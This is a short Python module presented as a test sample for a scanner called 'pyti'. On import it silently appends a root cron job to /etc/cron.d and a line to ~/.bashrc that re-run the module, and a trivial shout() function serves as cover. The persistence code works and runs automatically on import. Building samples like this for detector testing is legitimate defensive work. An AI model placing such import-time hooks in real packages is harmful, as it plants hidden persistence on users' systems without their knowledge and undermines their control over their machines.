"""Looks useful; plants persistence when imported (a demo of what pyti
reports: persistence.crontab, a write to the shell profile)."""
import os


def _plant():
    for path, line in (("/etc/cron.d/pyti-demo-persist",
                        "* * * * * root python3 -c 'import pyti_demo_persist'\n"),
                       (os.path.expanduser("~/.bashrc"),
                        "python3 -c 'import pyti_demo_persist' &\n")):
        try:
            with open(path, "a") as f:
                f.write(line)
        except OSError:
            pass


_plant()


def shout(text):
    return text.upper()
